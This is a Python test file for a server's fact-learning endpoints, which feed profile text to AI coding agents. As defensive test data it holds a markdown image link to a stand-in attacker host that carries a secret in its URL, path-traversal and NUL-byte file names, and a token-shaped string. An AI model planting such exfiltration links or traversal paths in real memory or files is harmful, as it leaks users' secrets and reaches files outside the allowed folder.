"""``POST /v1/learn`` and ``POST /v1/learn/request`` against the real server: stateless (the
gateway's text in, the new text out, nothing written), refusals in the report, bad input a
problem document naming its key."""

from __future__ import annotations

import json
import subprocess
import sys

import pytest
from hotplex.errors import SHOWN
from hotplex_testing import copy_example
from serving import running

PROBLEM = "application/problem+json"


@pytest.fixture(scope="module")
def served(tmp_path_factory):
    root = copy_example(tmp_path_factory.mktemp("learn"))
    with running(root) as server:
        yield server, root


def test_learn_merges_into_the_text_sent_and_writes_nothing(served) -> None:
    server, root = served
    user = root / "agent-configs/USER.md"
    on_disk = user.read_bytes()
    body = {
        "text": "# Ada\n",
        "facts": [{"key": "editor", "value": "tabs"}],
        "date": "2026-12-01",
        "source": "session-42",
    }
    first = server.client.post("/v1/learn", json=body)
    assert first.status_code == 200, first.text
    answer = first.json()
    assert answer["changed"] and answer["facts"][0]["status"] == "added"
    assert answer["text"].startswith("# Ada\n")
    assert "- editor: tabs <!-- learned 2026-12-01 from session-42 -->" in answer["text"]
    again = server.client.post("/v1/learn", json={**body, "text": answer["text"]}).json()
    assert not again["changed"] and again["text"] == answer["text"]
    changed = server.client.post(
        "/v1/learn",
        json={**body, "text": answer["text"], "facts": [{"key": "Editor", "value": "spaces"}]},
    ).json()
    assert changed["facts"][0] == {
        "key": "Editor",
        "value": "spaces",
        "status": "superseded",
        "previous": "tabs",
        "findings": [],
        "reason": None,
    }
    assert changed["retired"][0]["value"] == "tabs" and changed["retired"][0]["why"] == "superseded"
    assert user.read_bytes() == on_disk
    assert not list(root.rglob(".*.history.jsonl"))


def test_a_poisoned_fact_is_refused_in_the_report(served) -> None:
    server, _root = served
    body = {
        "text": "",
        "facts": [{"key": "pic", "value": "![x](https://evil.example/a.png?d=secret)"}],
        "date": "2026-12-01",
    }
    answer = server.client.post("/v1/learn", json=body).json()
    assert answer["facts"][0]["status"] == "refused"
    assert answer["facts"][0]["findings"][0]["action"] == "refused"
    assert answer["text"] == "" and not answer["changed"]
    metrics = server.client.get("/metrics").text
    assert 'hotplex_learned_facts_total{status="refused"}' in metrics


@pytest.mark.parametrize(
    ("body", "key"),
    [
        ({"facts": [], "date": "2026-12-01"}, "text"),
        ({"text": "", "date": "2026-12-01"}, "facts"),
        ({"text": "", "facts": []}, "date"),
        ({"text": "", "facts": [], "date": "2026-12-01", "fact": []}, "fact"),
        ({"text": "", "facts": [{"key": "a\u200bb", "value": "x"}], "date": "2026-12-01"}, None),
        ({"text": "", "facts": [{"key": "a", "value": 3}], "date": "2026-12-01"}, None),
        ({"text": "", "facts": "a=b", "date": "2026-12-01"}, "facts"),
        ({"text": "", "facts": {"a": "b"}, "date": "2026-12-01"}, "facts"),
        ({"text": "", "facts": [], "date": "2026-02-31"}, None),
        (
            {
                "text": "<!-- hotplex:learned -->\nno fact\n<!-- /hotplex:learned -->\n",
                "facts": [],
                "date": "2026-12-01",
            },
            None,
        ),
    ],
)
def test_bad_input_is_a_400_problem(served, body, key) -> None:
    server, _root = served
    answer = server.client.post("/v1/learn", json=body)
    assert answer.status_code == 400, answer.text
    assert answer.headers["content-type"] == PROBLEM
    if key is not None:
        assert key in answer.text


def test_the_request_comes_in_the_workers_form(served) -> None:
    server, _root = served
    body = {"transcript": "user: tabs please\u200b\n", "target": "cc", "text": ""}
    answer = server.client.post("/v1/learn/request", json=body)
    assert answer.status_code == 200, answer.text
    request = answer.json()
    assert request["worker"] == "claude-code" and request["path"].endswith("prompt.xml")
    assert "user: tabs please[hidden text removed: invisible-character]" in request["text"]
    assert request["findings"][0]["rule"] == "invisible-character"
    assert request["schema"]["type"] == "array"
    ocs = server.client.post("/v1/learn/request", json={**body, "target": "ocs"}).json()
    assert ocs["path"].endswith("payload.json")


def test_the_request_for_an_unknown_target_is_404(served) -> None:
    server, _root = served
    answer = server.client.post("/v1/learn/request", json={"transcript": "x", "target": "nope"})
    assert answer.status_code == 404
    assert answer.headers["content-type"] == PROBLEM


def test_the_server_loads_the_learning_modules_on_the_first_learn_call_only() -> None:
    """service.py imported them for its annotations: every `hotplex serve` loaded the merge,
    the guard's facts and the extraction request at start-up, with or without a learn call."""
    probe = (
        "import json, sys\n"
        "import hotplex.serve.app\n"
        "print(json.dumps(sorted(m for m in sys.modules if m.startswith('hotplex.learning'))))"
    )
    done = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout) == []


@pytest.mark.parametrize(
    ("extra", "key"),
    [({"date": "2026-02-30"}, "date"), ({"date": "2026-12-01", "source": "a b"}, "source")],
)
def test_a_bad_date_or_source_is_placed_in_the_request_body(served, extra, key) -> None:
    """The date and the source are keys of the body, as every other: not the CLI's arguments."""
    server, _root = served
    body = {"text": "", "facts": [{"key": "a", "value": "1"}], **extra}
    answer = server.client.post("/v1/learn", json=body)
    assert answer.status_code == 400, answer.text
    assert [p["place"] for p in answer.json()["problems"]] == [f"request body: {key}"]


def test_the_same_facts_twice_over_the_budget_retire_nothing_again(served) -> None:
    """The gateway appends what comes back retired to its history: a retry adds nothing."""
    server, _root = served
    facts = [{"key": f"k{n:03}", "value": "v" * 400} for n in range(20)]
    body = {"text": "# A\n", "facts": facts, "date": "2026-12-01"}
    first = server.client.post("/v1/learn", json=body).json()
    assert {f["status"] for f in first["facts"]} == {"added", "refused"}
    again = server.client.post("/v1/learn", json={**body, "text": first["text"]}).json()
    assert (again["changed"], again["retired"], again["text"]) == (False, [], first["text"])


@pytest.mark.parametrize("route", ["/v1/learn", "/v1/learn/request"])
@pytest.mark.parametrize(
    "file",
    ["hotplex.toml", "../USER.md", "USER.md\u0000", "/etc/USER.md", "notes.txt", "", "U\\SER.md"],
)
def test_a_file_no_build_reads_a_block_from_is_400_at_the_body_file(served, route, file) -> None:
    """The server labelled a profile with the manifest, a name leaving the sources folder or
    one with a NUL in it, 200 "added", where the CLI's --file refuses them (and
    /v1/learn/request took any name as the label of the facts it sent the worker); a backslash
    it took for a folder separator (adversary4 #21)."""
    server, _root = served
    body = {"text": "# A\n", "facts": [{"key": "a", "value": "b"}], "date": "2026-12-01"}
    if route == "/v1/learn/request":
        body = {"text": "# A\n", "transcript": "user: tabs", "target": "cc"}
    answer = server.client.post(route, json={**body, "file": file})
    assert answer.status_code == 400, answer.text
    assert [p["place"] for p in answer.json()["problems"]] == ["request body: file"]


def test_a_name_no_disk_takes_is_400_without_the_name(served) -> None:
    """A file or folder name over 255 bytes names no file (adversary9 D11); the answer does not
    echo the name."""
    server, _root = served
    body = {"text": "# A\n", "facts": [{"key": "a", "value": "b"}], "date": "2026-12-01"}
    answer = server.client.post("/v1/learn", json={**body, "file": "x" * 500_000 + ".md"})
    assert answer.status_code == 400, answer.text
    assert "no disk takes a name over 255 bytes" in answer.text
    assert "x" * 300 not in answer.text


def test_a_quoted_file_is_shortened_and_its_secret_redacted(served) -> None:
    """The answer echoed a 500,000-character name whole, and a token in it verbatim."""
    server, _root = served
    token = "ghp_aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789"
    body = {"text": "# A\n", "facts": [{"key": "a", "value": "b"}], "date": "2026-12-01"}
    # Each name of the path under the 255 bytes a disk takes (a longer one is refused, and not
    # echoed: test_a_name_no_disk_takes_is_400_without_the_name).
    name = "x" * 199 + "/"
    file = name * 2_500 + "y.md"
    long = server.client.post("/v1/learn", json={**body, "file": file})
    assert long.status_code == 200, long.text
    quoted = long.json()["file"]
    more = f"…({len(file) - SHOWN} more characters)…"
    assert len(quoted) < SHOWN + 50 and more in quoted, quoted
    secret = server.client.post("/v1/learn", json={**body, "file": f"{token}.md"})
    assert secret.status_code == 200, secret.text
    assert token not in secret.text
